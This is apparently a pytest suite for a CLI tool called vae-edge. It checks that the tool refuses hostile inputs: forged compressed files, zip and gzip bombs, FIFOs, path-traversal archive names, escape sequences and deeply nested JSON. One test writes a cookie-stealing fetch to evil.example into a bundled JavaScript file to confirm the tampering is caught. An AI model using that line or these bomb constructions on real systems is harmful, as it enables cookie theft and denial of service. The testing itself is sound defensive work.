"""Hostile inputs, round 3 (issue 34): decompression bombs, archives that point outside, files that
never end, nested JSON, escape sequences, huge messages. Each case is tried as an attacker would
hand it to the CLI (a new process, so time and peak memory are the user's), and must end in one
line, a non-zero exit, in bounded time and memory, with nothing written outside the output."""

from __future__ import annotations

import gzip
import io
import json
import os
import shutil
import socket
import struct
import subprocess
import sys
import time
import zipfile
import zlib
from pathlib import Path

import numpy as np
import pytest

from vae_edge import printable
from vae_edge.runtime.bundle import SIGNATURE
from vae_edge.runtime.files import write_json_atomic

ROOT = Path(__file__).resolve().parents[1]
SHIPPED = ROOT / "vae_edge" / "pretrained" / "mlp-mnist" / "bundle"
# The CLI in a new process, reporting its peak RSS (VmHWM) on its last stderr line.
_WRAP = ("import atexit, sys\n"
         "def _peak():\n"
         "    hwm = next(l.split()[1] for l in open('/proc/self/status') if l.startswith('VmHWM:'))\n"
         "    sys.stderr.write('\\nPEAK_KB ' + hwm + '\\n')\n"
         "atexit.register(_peak)\n"
         "from vae_edge.cli import main\n"
         "sys.argv = ['vae-edge'] + sys.argv[1:]\n"
         "main()\n")


class Run:
    def __init__(self, rc: int, lines: list[str], seconds: float, peak_mb: float, raw: str):
        self.rc, self.lines, self.seconds, self.peak_mb, self.raw = rc, lines, seconds, peak_mb, raw

    @property
    def line(self) -> str:
        assert self.rc != 0, self.raw
        assert len(self.lines) == 1, self.raw
        assert "Traceback" not in self.raw and "\x1b" not in self.raw, self.raw
        return self.lines[0]


def cli(*args, cwd=None, timeout: float = 120, env: dict | None = None) -> Run:
    t0 = time.perf_counter()
    res = subprocess.run([sys.executable, "-c", _WRAP, *map(str, args)], capture_output=True, text=True,
                         timeout=timeout, cwd=cwd, env={**os.environ, **(env or {})}, stdin=subprocess.DEVNULL)
    seconds = time.perf_counter() - t0
    err = res.stderr.strip().splitlines()
    peak = next((int(ln.split()[1]) / 1024 for ln in err if ln.startswith("PEAK_KB ")), float("nan"))
    lines = [ln for ln in err if ln.strip() and not ln.startswith("PEAK_KB ")]
    return Run(res.returncode, lines, seconds, peak, res.stderr)


def report(case: str, run: Run) -> None:
    print(f"\nRELIABILITY: {case}: refused in {run.seconds:.1f} s (a new process: start-up included), "
          f"peak RSS {run.peak_mb:.0f} MB")


@pytest.fixture(scope="module")
def baseline_rss(tmp_path_factory) -> float:
    """The peak RSS of a command that loads the shipped model and does little: the floor of every case."""
    out = tmp_path_factory.mktemp("base") / "s.png"
    run = cli("sample", "-n", "2", "-o", out)
    assert run.rc == 0, run.raw
    return run.peak_mb


# --- 1. .vaez bombs ------------------------------------------------------------------------------------

@pytest.fixture(scope="module")
def vaez(tmp_path_factory, mnist_dir) -> bytes:
    folder = tmp_path_factory.mktemp("vaez")
    run = cli("compress", "mnist:test[0:8]", "--binarize", "threshold", "--data-dir", mnist_dir, "-o",
              folder / "x.vaez")
    assert run.rc == 0, run.raw
    return (folder / "x.vaez").read_bytes()


def _fields_at(data: bytes) -> int:
    pos = 5
    for _ in range(3):
        pos += 1 + data[pos]
    return pos


def forge(data: bytes, images: int | None = None, lanes: int | None = None, words: int | None = None,
          seed: int = 0, strings: tuple[bytes, bytes, bytes] | None = None) -> bytes:
    """A .vaez with the header's counts changed, random heads and words to match, and a valid CRC:
    what an attacker who read the format writes."""
    from vae_edge.runtime.compress import _FIXED, lanes_used

    pos = _fields_at(data)
    f = list(_FIXED.unpack_from(data, pos))
    f[3] = f[3] if images is None else images
    f[7] = f[7] if lanes is None else lanes
    f[14] = f[14] if words is None else words
    head = data[:5]
    if strings is None:
        head = data[:pos]
    else:
        head += b"".join(bytes([len(s)]) + s for s in strings)
    rng = np.random.default_rng(seed)
    used = lanes_used(min(f[3], 1 << 20), max(f[7], 1))
    body = (head + struct.pack(_FIXED.format, *f) + rng.integers(1 << 32, 1 << 63, used, dtype=np.uint64)
            .astype("<u8").tobytes() + rng.integers(0, 1 << 32, f[14], dtype=np.uint64).astype("<u4").tobytes())
    return body + struct.pack("<I", zlib.crc32(body))


@pytest.mark.parametrize("case", ["4,294,967,295 images in 184 bytes", "200,000 images in 1.3 KB",
                                  "garbage words, as many images as bytes allow", "one lane for 33,000 images"])
def test_a_vaez_bomb_is_refused_in_bounded_time_and_memory(vaez, tmp_path, case, baseline_rss):
    if case.startswith("4,294"):
        data = forge(vaez, images=2**32 - 1, lanes=1, words=10)
    elif case.startswith("200,000"):
        data = forge(vaez, images=200_000, lanes=1, words=300)
    elif case.startswith("garbage"):
        size = len(forge(vaez, images=1, lanes=128, words=25_000))
        data = forge(vaez, images=8 * size, lanes=128, words=25_000)  # at the header bound: 1 bit an image
    else:
        size = len(forge(vaez, images=1, lanes=1, words=1000))
        data = forge(vaez, images=8 * size, lanes=1, words=1000)
    (tmp_path / "bomb.vaez").write_bytes(data)
    run = cli("decompress", tmp_path / "bomb.vaez", "-o", tmp_path / "out.npy", timeout=60)
    assert "bomb.vaez" in run.line and ("damaged" in run.line or "did not decode" in run.line), run.line
    assert run.seconds < 30 and run.peak_mb < baseline_rss + 200, (run.seconds, run.peak_mb)
    assert sorted(p.name for p in tmp_path.iterdir()) == ["bomb.vaez"]
    report(f".vaez bomb, {case} ({len(data):,} bytes)", run)


def test_the_header_bound_is_what_compress_writes(vaez):
    """Every file compress writes passes the reader's bounds (one bit per image, lanes, values): a
    legitimate file is never taken for a bomb; and decoding stops at the first pop below the
    stored words (the strict decoder) instead of drawing filler words for ever."""
    from vae_edge.runtime.ans import ANSError, Message
    from vae_edge.runtime.compress import read_header

    h, heads, words = read_header(vaez)
    assert h["images"] == 8 and h["lanes"] == 1
    m = Message(len(heads), words=words[:2], heads=heads, strict=True)
    m.ptr = 0
    with pytest.raises(ANSError, match="ran out of stored words"):
        m.pop(np.zeros(1, np.uint64), np.zeros(1, np.uint64), np.ones(1, np.uint64), 32)


def test_a_vaez_with_escape_sequences_in_its_header_is_refused_without_them(vaez, tmp_path):
    data = forge(vaez, strings=(b"\x1b[2J\x1b]0;pwned\x07", b"fp32", b"x86_64 \x1b[31mred"))
    (tmp_path / "esc.vaez").write_bytes(data)
    run = cli("decompress", tmp_path / "esc.vaez", "-o", tmp_path / "out.npy")
    assert "control characters" in run.line and "\x1b" not in run.raw and "\x07" not in run.raw


def test_foreign_strings_are_escaped_and_bounded_in_every_message(tmp_path):
    name = "\x1b[2J\x1b]0;title\x07" + "x" * 5000 + ".npy"
    run = cli("reconstruct", name, "-o", tmp_path / "r.png", cwd=tmp_path)
    assert "\\x1b[2J" in run.line and len(run.line) < 2200, run.line
    assert printable("a\u202eb\nc") == "a\\u202eb\\nc"
    assert printable("x" * 3000, 100).endswith("... (2,900 more characters)")


# --- 2. files that never end ---------------------------------------------------------------------------

@pytest.fixture
def fifo(tmp_path) -> Path:
    path = tmp_path / "images.npy"
    os.mkfifo(path)
    return path


@pytest.mark.parametrize("command", ["encode", "compress", "reconstruct", "train --data", "quantize --calibration-data",
                                     "decompress"])
def test_a_fifo_is_refused_at_once_by_every_reader(fifo, tmp_path, command, mnist_dir):
    out = tmp_path / "out"
    args = {"encode": ["encode", fifo, "-o", tmp_path / "z.npy"],
            "compress": ["compress", fifo, "-o", tmp_path / "x.vaez"],
            "reconstruct": ["reconstruct", fifo, "-o", tmp_path / "r.png"],
            "train --data": ["train", "--data", fifo, "--input-shape", "1,28,28", "--epochs", "1", "--out", out],
            "quantize --calibration-data": ["quantize", tmp_path / "b", "--mode", "static", "--calibration-data", fifo],
            "decompress": ["decompress", fifo, "-o", tmp_path / "x.npy"]}[command]
    if command.startswith("quantize"):
        shutil.copytree(SHIPPED, tmp_path / "b")
        (tmp_path / "b" / SIGNATURE).unlink()
    run = cli(*args, timeout=60)
    assert "FIFO" in run.line and "images.npy" in run.line, run.line
    assert not out.exists() and not (tmp_path / "z.npy").exists()
    report(f"a FIFO named images.npy to {command}", run)


# --- 3. and 4. .npz archives ---------------------------------------------------------------------------

def _npy_bytes(a: np.ndarray) -> bytes:
    buf = io.BytesIO()
    np.save(buf, a)
    return buf.getvalue()


@pytest.mark.parametrize("member", ["../../../../{outside}", "{outside}"])
def test_npz_members_are_read_from_the_archive_only(tmp_path, member):
    outside = tmp_path / "host" / "x.npy"
    outside.parent.mkdir()
    np.save(outside, np.zeros((10, 28, 28), np.float32))  # what the name points at on the host
    name = member.format(outside=str(outside).lstrip("/") if member.startswith("..") else str(outside))
    with zipfile.ZipFile(tmp_path / "a.npz", "w") as z:
        z.writestr(name, _npy_bytes(np.full((64, 28, 28), 0.5, np.float32)))  # the archive's own data
    run = cli("encode", tmp_path / "a.npz", "-o", tmp_path / "z.npy")
    assert run.rc == 0, run.raw
    assert np.load(tmp_path / "z.npy").shape[0] == 64  # the archive's 64 images, not the host file's 10


@pytest.mark.parametrize("case", ["declares 2.8 GiB", "declares 1 GiB of uint8 (4 GiB as float32)",
                                  "lies about its size"])
def test_npz_bombs_are_refused_without_unpacking(tmp_path, case, baseline_rss):
    tmpdir = tmp_path / "tmp"
    tmpdir.mkdir()
    shape = {"declares 2.8 GiB": (3000, 1000, 1000), "declares 1 GiB": (1_370_000, 28, 28)}.get(
        case.split(" of")[0], (64, 28, 28))
    with zipfile.ZipFile(tmp_path / "bomb.npz", "w", compression=zipfile.ZIP_DEFLATED) as z, \
            z.open("x.npy", "w", force_zip64=True) as w:
        hdr = io.BytesIO()
        np.lib.format.write_array_header_1_0(hdr, {"descr": "|u1", "fortran_order": False, "shape": shape})
        w.write(hdr.getvalue())
        left = int(np.prod(shape)) if case != "lies about its size" else 400 << 20
        chunk = b"\0" * (16 << 20)
        while left > 0:
            w.write(chunk[: min(left, len(chunk))])
            left -= len(chunk)
    run = cli("encode", tmp_path / "bomb.npz", "-o", tmp_path / "z.npy", env={"TMPDIR": str(tmpdir)})
    assert "bomb.npz" in run.line and ("limit" in run.line or "truncated or corrupt" in run.line), run.line
    assert run.peak_mb < baseline_rss + 100 and run.seconds < 30, (run.peak_mb, run.seconds)
    assert [p.name for p in tmpdir.iterdir() if p.name != ".ses"] == []  # (.ses: onnxruntime's import)
    assert not (tmp_path / "z.npy").exists()
    report(f".npz bomb ({(tmp_path / 'bomb.npz').stat().st_size / 2**20:.1f} MB) that {case}", run)


def test_an_npz_with_many_arrays_is_refused_in_one_short_line(tmp_path):
    with zipfile.ZipFile(tmp_path / "many.npz", "w") as z:
        for i in range(5000):
            z.writestr(f"a{i:05d}" + "n" * 100 + ".npy", b"")
    run = cli("encode", tmp_path / "many.npz", "-o", tmp_path / "z.npy")
    assert "5,000 members" in run.line and len(run.line) < 400, run.line
    with zipfile.ZipFile(tmp_path / "few.npz", "w") as z:
        for i in range(40):
            z.writestr(f"a{i:02d}" + "n" * 300 + ".npy", _npy_bytes(np.zeros(1)))
    run = cli("encode", tmp_path / "few.npz", "-o", tmp_path / "z.npy")
    assert "and 32 more" in run.line and len(run.line) < 1000, run.line


# --- 5. gzip bombs in the MNIST folder -----------------------------------------------------------------

@pytest.mark.parametrize("case", ["a body 300x what the header says", "a header declaring 4 GiB"])
def test_gzip_bombs_in_the_data_folder_are_refused(tmp_path, mnist_dir, case, baseline_rss):
    data = tmp_path / "mnist"
    shutil.copytree(mnist_dir, data)
    target = data / "t10k-images-idx3-ubyte.gz"
    shape = (10_000, 28, 28) if case.startswith("a body") else (4_000_000, 1000, 1)
    body = 300 * 10_000 * 784 if case.startswith("a body") else 64 << 20
    with gzip.open(target, "wb", compresslevel=1) as f:
        f.write(bytes([0, 0, 8, 3]) + struct.pack(">3I", *shape))
        chunk = b"\0" * (16 << 20)
        while body > 0:
            f.write(chunk[: min(body, len(chunk))])
            body -= len(chunk)
    run = cli("reconstruct", "mnist:test[0:4]", "--data-dir", data, "-o", tmp_path / "r.png")
    assert "t10k-images" in run.line and ("truncated or corrupt" in run.line or "limit" in run.line), run.line
    assert run.peak_mb < baseline_rss + 150 and run.seconds < 60, (run.peak_mb, run.seconds)
    assert not (tmp_path / "r.png").exists()
    report(f"gzip bomb in the MNIST folder ({target.stat().st_size / 2**20:.1f} MB, {case})", run)


# --- 6. onnxruntime-web's files ------------------------------------------------------------------------

def test_tampered_onnxruntime_web_files_never_reach_a_site(tmp_path, monkeypatch):
    from vae_edge import VaeEdgeError, web

    good = web.ort_web_dir()
    bad = tmp_path / "ort"
    shutil.copytree(good, bad)
    with open(bad / "ort.wasm.min.mjs", "a") as f:
        f.write("\nfetch('https://evil.example/?' + document.cookie);\n")
    monkeypatch.setenv("VAE_EDGE_ORT_WEB", str(bad))
    with pytest.raises(VaeEdgeError, match="ort.wasm.min.mjs.*sha256"):
        web.build_site(out=tmp_path / "site", with_score_range=False)
    assert not (tmp_path / "site").exists()
    # a cache changed after it was checked: the copy itself checks the bytes it writes
    monkeypatch.delenv("VAE_EDGE_ORT_WEB")
    monkeypatch.setattr(web, "ort_web_dir", lambda log=None: bad)
    with pytest.raises(VaeEdgeError, match="sha256"):
        web.build_site(out=tmp_path / "site", with_score_range=False)
    assert not (tmp_path / "site").exists() and not list(tmp_path.glob(".site*"))


def test_a_built_site_holds_no_build_path_and_its_server_lists_no_folders(tmp_path, monkeypatch):
    from vae_edge import web

    monkeypatch.setattr(web._Handler, "timeout", 1)
    web.build_site(out=tmp_path / "site", with_score_range=False)
    assert str(tmp_path) not in (tmp_path / "site" / web.SITE_MARKER).read_text()
    import urllib.error
    import urllib.request

    with web.serving(tmp_path / "site") as url:
        with pytest.raises(urllib.error.HTTPError) as e:
            urllib.request.urlopen(url + "models/")
        assert e.value.code == 404
        assert urllib.request.urlopen(url).status == 200
        host, port = url.split("//")[1].rstrip("/").split(":")
        idle = socket.create_connection((host, int(port)))  # says nothing
        idle.settimeout(10)
        t0 = time.perf_counter()
        assert idle.recv(1) == b""  # the server closes it
        assert time.perf_counter() - t0 < 5
        idle.close()


# --- 7. nested JSON ------------------------------------------------------------------------------------

def _nested(depth: int) -> str:
    return "[" * depth + "]" * depth


def test_json_readers_bound_the_nesting():
    from vae_edge.runtime.files import MAX_JSON_DEPTH, loads_json

    assert loads_json(_nested(MAX_JSON_DEPTH)) == json.loads(_nested(MAX_JSON_DEPTH))
    for depth in (MAX_JSON_DEPTH + 1, 100_000):
        with pytest.raises(ValueError, match="nested deeper"):
            loads_json(_nested(depth))


def test_a_deeply_nested_tuning_record_is_ignored_with_one_note(tmp_path):
    from vae_edge.runtime.bundle import load_manifest, user_tuning_file

    cache = tmp_path / "cache"
    env = {"XDG_CACHE_HOME": str(cache)}
    path = cache / "vae-edge" / "tuning" / user_tuning_file(load_manifest(SHIPPED)).name
    path.parent.mkdir(parents=True)
    path.write_text('{"choice": ' + _nested(100_000) + "}")
    for args in (["info", "--variant", "auto"], ["sample", "-n", "2", "--variant", "auto", "-o", tmp_path / "s.png"]):
        res = subprocess.run([sys.executable, "-m", "vae_edge.cli", *map(str, args)], capture_output=True, text=True,
                             env={**os.environ, **env}, timeout=120)
        assert res.returncode == 0, res.stderr
        notes = [ln for ln in res.stderr.splitlines() if "tuning record" in ln]
        assert len(notes) == 1 and "ignored" in notes[0] and "Traceback" not in res.stderr, res.stderr


@pytest.mark.parametrize("what", ["manifest.json", SIGNATURE])
def test_a_deeply_nested_manifest_or_signature_is_refused_in_one_line(tmp_path, what):
    b = tmp_path / "b"
    shutil.copytree(SHIPPED, b)
    (b / what).write_text(_nested(100_000))
    key = ROOT / "vae_edge" / "pretrained" / "vae-edge-project.pub.pem"  # the signature is read when checked
    run = cli("sample", "--bundle", b, "--trusted-key", key, "-n", "2", "-o", tmp_path / "s.png")
    assert str(b) in run.line and "RecursionError" not in run.raw, run.line
    (b / what).write_text('{"a": ' + _nested(40) + "}")  # shallower, but deeper than any file of ours
    run = cli("sample", "--bundle", b, "--trusted-key", key, "-n", "2", "-o", tmp_path / "s.png")
    assert str(b) in run.line, run.line


def test_oversized_shapes_in_a_manifest_are_refused_before_allocating(tmp_path, baseline_rss):
    b = tmp_path / "b"
    shutil.copytree(SHIPPED, b)
    (b / SIGNATURE).unlink()
    m = json.loads((b / "manifest.json").read_text())
    m["model"]["image_shape"] = [1, 100_000, 100_000]
    write_json_atomic(b / "manifest.json", m)
    run = cli("sample", "--bundle", b, "-n", "2", "-o", tmp_path / "s.png")
    assert "image shape" in run.line and run.peak_mb < baseline_rss + 50, run.line


# --- 8. verify --record on a signed bundle -------------------------------------------------------------

def test_verify_record_never_destroys_a_valid_signature(tmp_path, keys):
    from vae_edge.runtime.trust import sign_bundle

    b = tmp_path / "b"
    shutil.copytree(SHIPPED, b)
    (b / SIGNATURE).unlink()
    m = json.loads((b / "manifest.json").read_text())
    del m["variants"]["int8-dynamic"]["golden"]
    write_json_atomic(b / "manifest.json", m)
    sign_bundle(b, keys["priv"])
    sig = (b / SIGNATURE).read_bytes()
    run = cli("verify", b, "--record", "--trusted-key", keys["pub"])
    assert "signed" in run.line and "int8-dynamic" in run.line, run.line
    assert (b / SIGNATURE).read_bytes() == sig and "golden" not in json.loads((b / "manifest.json").read_text())[
        "variants"]["int8-dynamic"]
    run = cli("verify", b, "--record", "--trusted-key", keys["other_pub"])  # a wrong key: refused first
    assert (b / SIGNATURE).read_bytes() == sig and "signature" in run.line, run.line
    (b / SIGNATURE).unlink()  # the maker's way: record, then sign
    assert cli("verify", b, "--record").rc == 0
    sign_bundle(b, keys["priv"])
    assert cli("verify", b, "--record", "--trusted-key", keys["pub"]).rc == 0


# --- and the rest --------------------------------------------------------------------------------------

def test_decompress_checks_a_folder_output_before_decoding(vaez, tmp_path):
    (tmp_path / "x.vaez").write_bytes(vaez)
    (tmp_path / "full").mkdir()
    (tmp_path / "full" / "keep.txt").write_text("mine")
    # the file claims a device that would fail late: the folder must be refused before any of it
    run = cli("decompress", tmp_path / "x.vaez", "-o", str(tmp_path / "full") + "/")
    assert "not empty" in run.line and (tmp_path / "full" / "keep.txt").read_text() == "mine"
    run = cli("decompress", tmp_path / "x.vaez", "-o", str(tmp_path / "no" / "such") + "/")
    assert "does not exist" in run.line
    assert cli("decompress", tmp_path / "x.vaez", "-o", str(tmp_path / "new") + "/").rc == 0
    assert len(list((tmp_path / "new").iterdir())) == 8


def test_compress_refuses_a_picture_bomb_in_one_line(tmp_path, baseline_rss):
    from PIL import Image

    Image.new("1", (10_000, 6_000)).save(tmp_path / "big.png")
    run = cli("compress", tmp_path / "big.png", "-o", tmp_path / "x.vaez")
    assert "too large" in run.line and run.peak_mb < baseline_rss + 50, run.line


def test_the_tuning_cache_behind_a_link_is_refused(tmp_path):
    cache = tmp_path / "cache"
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    (cache / "vae-edge").mkdir(parents=True)
    (cache / "vae-edge" / "tuning").symlink_to(elsewhere)
    env = {"XDG_CACHE_HOME": str(cache)}
    run = cli("tune", "--threads", "1", "--min-time", "0.01", env=env)
    assert "symbolic link" in run.line and not any(elsewhere.iterdir()), run.line
